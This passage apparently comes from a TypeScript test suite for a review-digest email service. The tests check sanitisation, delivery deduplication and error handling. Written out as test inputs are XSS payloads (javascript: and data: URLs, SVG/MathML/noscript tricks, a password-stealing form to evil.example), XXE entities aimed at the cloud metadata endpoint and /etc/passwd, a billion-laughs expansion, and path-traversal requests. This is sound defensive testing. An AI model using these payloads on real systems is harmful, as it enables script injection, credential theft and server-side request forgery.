    const response = await call(new Request(`https://digest.test/admin/subscribers/${typed}`, { method: "DELETE", headers: bearer }));
    expect(response.status).toBe(200);
    expect(await response.json()).toMatchObject({ ok: true, removed: { subscribers: 1 } });
    expect(await subscriberStatus(reader.email)).toBeUndefined();
  });
});

describe("hostile feed content", () => {
  it("script, handler, javascript:/vbscript:/data: URLs, SVG, MathML, CSS expression() and meta/base/form never reach the edition, the email, the archive or /feed.xml", async () => {
    const item = uniqueItem("hostile");
    item.title = `Film <img src=x onerror=prompt(1)> & "quoted" <script>`;
    item.html = [
      `<p>Intro paragraph that stays.</p>`,
      `<img src="javascript:alert(1)" onerror="alert(2)">`,
      `<a href="javascript:alert(3)">j</a> <a href="  JaVaScRiPt:alert(4)">j2</a> <a href="vbscript:msgbox(alert(5))">vb</a>`,
      `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCg2KTwvc2NyaXB0Pg==">d</a> <a href="java&#x09;script:alert(7)">tab</a>`,
      `<svg onload="alert(8)"><script>alert(9)</script></svg>`,
      `<p style="background:url(javascript:alert(10));width:expression(alert(11))">styled</p>`,
      `<math><mtext><table><mglyph><style><img src=x onerror=alert(12)></style></mglyph></table></mtext></math>`,
      `<noscript><p title="</noscript><img src=x onerror=alert(13)>"></p></noscript>`,
      `<a href="https://ok.example/review" onclick="alert(14)" target="_blank">the good link</a>`,
      `<iframe srcdoc="<script>alert(15)</script>"></iframe>`,
      `<form action="https://evil.example/steal"><input name="password"></form>`,
      `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
      `<base href="https://evil.example/">`,
      `<img src="https://img.example/poster.png" srcset="javascript:alert(16) 1x" alt="poster">`,
      `<object data="javascript:alert(17)"></object>`,
      `<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:url(https://evil.example/x.png)">overlay</div>`,
      `<a href="//evil.example/protocol-relative">pr</a>`,
      `<p>Outro paragraph that stays.</p>`,
    ].join("\n");
    const feed = createFakeFeed(buildMediumFeed([item]));
    const resend = createFakeResend({ ratePerSecond: 10_000 });
    installNetwork({ "feeds.test": feed.handle, "resend.test": resend.handle });
    const reader = await seedSubscriber();
    const recorded = recordQueue();
    const runEnv: Env = { ...env, FEED_URL: uniqueFeedUrl(), SEND_LATEST_ON_FIRST_POLL: "1", DELIVERY_QUEUE: recorded.queue };
    expect((await call(new Request("https://digest.test/admin/poll", { method: "POST", headers: bearer }), runEnv)).status).toBe(200);
    const [editionId] = await editionIdsOf(runEnv.FEED_URL);
    expect(editionId).toBeTypeOf("number");
    await consumeBodies(runEnv, recorded.bodies);
    const stored = await env.DB.prepare("SELECT html, text, reviews_json FROM editions WHERE id = ?1").bind(editionId).first<{ html: string; text: string; reviews_json: string }>();
    const [mail] = resend.sentTo(reader.email);
    const archive = await call(new Request(`https://digest.test/archive/${editionId}`), runEnv);
    const archiveHtml = await archive.text();
    const rss = await (await call(new Request("https://digest.test/feed.xml"), runEnv)).text();
    const index = await (await call(new Request("https://digest.test/archive"), runEnv)).text();

    const BODY_PAYLOAD = /alert\(|javascript:|vbscript:|data:text|expression\(|srcdoc|srcset|evil\.example\/(steal|")|url=https:\/\/evil|position:\s*fixed/i;
    // The stored review JSON keeps the title as plain text (escaped wherever it is rendered); its body must be clean.
    expect(stored?.reviews_json).not.toMatch(BODY_PAYLOAD);
    for (const [where, html] of [["stored html", stored?.html], ["email html", mail?.html], ["archive", archiveHtml], ["feed.xml", rss]] as const) {
      expect(html, where).toBeTypeOf("string");
      expect(html, where).not.toMatch(BODY_PAYLOAD);
      expect(html, where).not.toMatch(/<img src=x|<script>/i);
      expect(html, where).toContain("Outro paragraph that stays.");
    }
    expect(mail?.html).toContain("https://ok.example/review");
    expect(mail?.text ?? "").not.toMatch(BODY_PAYLOAD);
    expect(index).not.toMatch(/<img src=x|<script>/i);
    expect(archive.headers.get("content-security-policy") ?? "").toMatch(/default-src 'none'/);
  });

  it("a feed with external and exponential XML entities fetches nothing internal and expands nothing", async () => {
    const tag = crypto.randomUUID().slice(0, 8);
    const lol = ["<!ENTITY lol0 \"lollollollollollollollollollol\">"];
    for (let i = 1; i <= 9; i++) lol.push(`<!ENTITY lol${i} "${`&lol${i - 1};`.repeat(10)}">`);
    const xml =
      `<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE rss [<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/iam/">` +
      `<!ENTITY local SYSTEM "file:///etc/passwd">${lol.join("")}]>` +
      `<rss version="2.0"><channel><title>Critic &xxe;</title><link>https://critic.example/</link><description>x</description>` +
      `<item><title>Entities &lol9; &xxe; &local;</title><link>https://critic.example/${tag}</link><guid isPermaLink="false">${tag}</guid>` +
      `<pubDate>Tue, 05 Dec 2023 14:31:07 GMT</pubDate><description>&lt;p&gt;Body &amp;lol9; &amp;xxe;&lt;/p&gt;</description></item></channel></rss>`;
    const probes: Request[] = [];
    installNetwork({
      "feeds.test": createFakeFeed(xml).handle,
      "resend.test": createFakeResend({ ratePerSecond: 10_000 }).handle,
      "169.254.169.254": (request) => {
        probes.push(request);
        return new Response("AKIA-secret");
      },
    });
    const recorded = recordQueue();
    const runEnv: Env = { ...env, FEED_URL: uniqueFeedUrl(), SEND_LATEST_ON_FIRST_POLL: "1", DELIVERY_QUEUE: recorded.queue };
    const started = Date.now();
    const polled = await call(new Request("https://digest.test/admin/poll", { method: "POST", headers: bearer }), runEnv);
    expect(polled.status).toBe(200);
    expect(Date.now() - started).toBeLessThan(10_000);
    expect(probes).toEqual([]);
    const { results } = await env.DB.prepare(
      "SELECT e.subject, e.html, e.text FROM editions e WHERE e.id IN (SELECT r.edition_id FROM reviews r JOIN feeds f ON f.id = r.feed_id WHERE f.url = ?1)",
    )
      .bind(runEnv.FEED_URL)
      .all<{ subject: string; html: string; text: string }>();
    for (const edition of results) {
      const all = `${edition.subject}${edition.html}${edition.text}`;
      expect(all).not.toContain("lol".repeat(20));
      expect(all).not.toMatch(/AKIA|root:x:0/);
      expect(all.length).toBeLessThan(200_000);
    }
  });
});

describe("delivery: nothing sent twice", () => {
  it("a batch Resend accepted but whose answer was lost is retried without a second email", async () => {
    const resend = setupResend({ ratePerSecond: 10_000 });
    vi.spyOn(console, "warn").mockImplementation(() => undefined);
    vi.spyOn(console, "error").mockImplementation(() => undefined);
    const { subscribers, editionId, chunks } = await arrange(3);
    const run = deliveryEnv();
    resend.failNext({ type: "drop_response" });
    await consumeChunks(run.env, editionId, chunks);
    expect(emailsTo(resend, subscribers)).toHaveLength(3);
    await consumeChunks(run.env, editionId, chunks, 2);
    await consumeChunks(run.env, editionId, chunks, 3);
    const sent = emailsTo(resend, subscribers);
    expect(sent).toHaveLength(3);
    expect(new Set(sent.map((email) => email.to[0])).size).toBe(3);
  });

  it("one chunk message delivered twice at once (queues are at-least-once) sends each reader one email", async () => {
    const resend = setupResend({ ratePerSecond: 10_000, latencyMs: 40 });
    vi.spyOn(console, "warn").mockImplementation(() => undefined);
    vi.spyOn(console, "error").mockImplementation(() => undefined);
    const { subscribers, editionId, chunks } = await arrange(3);
    const run = deliveryEnv();
    await Promise.all([consumeChunks(run.env, editionId, chunks), consumeChunks(run.env, editionId, chunks)]);
    await consumeChunks(run.env, editionId, chunks, 2);
    const sent = emailsTo(resend, subscribers);
    expect(sent).toHaveLength(3);
    expect(new Set(sent.map((email) => email.to[0])).size).toBe(3);
  });

  it("two simultaneous 'send the latest review' requests (a double click) make one edition", async () => {
    const setup = publishSetup();
    const reader = await seedSubscriber();
    const request = () => new Request("https://digest.test/admin/send-latest", { method: "POST", headers: bearer });
    const answers = await Promise.all([call(request(), setup.runEnv), call(request(), setup.runEnv)]);
    for (const answer of answers) expect(answer.status).toBe(200);
    expect(await editionIdsOf(setup.runEnv.FEED_URL)).toHaveLength(1);
    await consumeBodies(setup.runEnv, setup.recorded.bodies);
    expect(setup.resend.sentTo(reader.email)).toHaveLength(1);
  });
});

describe("errors never leak", () => {
  it("hostile paths, ids and methods get a 4xx with a message, never a 500 or a stack", async () => {
    const requests: Array<[string, RequestInit]> = [
      ["/archive/abc", {}],
      ["/archive/-1", {}],
      ["/archive/1e400", {}],
      ["/archive/99999999999999999999", {}],
      ["/archive/0x10", {}],
      ["/archive?before=%00", {}],
      ["/archive/%F0%9F%92%A9", {}],
      ["/websub/callback/abc/key", { method: "POST", body: "x" }],
      ["/websub/callback/1e99/key?hub.mode=subscribe&hub.topic=x&hub.challenge=y", {}],
      ["/subscribe", { method: "PUT", body: "{}" }],
      ["/confirm?token=" + "A".repeat(5000), {}],
      ["/admin/..%2fsubscribers", {}],
      ["/hooks/publish", { method: "GET" }],
    ];
    for (const [path, init] of requests) {
      const response = await call(new Request(`https://digest.test${path}`, init));
      expect(response.status, path).toBeGreaterThanOrEqual(400);
      expect(response.status, path).toBeLessThan(500);
      expectNoLeak(await response.text());
    }
  });

  it("a broken D1 binding answers a generic 500 without the exception or any secret", async () => {
    vi.spyOn(console, "error").mockImplementation(() => undefined);
    const broken = { ...env, DB: undefined as unknown as D1Database };
    for (const path of ["/archive", "/archive/1", "/feed.xml"]) {
      const response = await call(new Request(`https://digest.test${path}`), broken);
      expect(response.status, path).toBe(500);
      const text = await response.text();
      expect(JSON.parse(text)).toMatchObject({ error: "internal_error" });
      expectNoLeak(text);
    }
  });
});
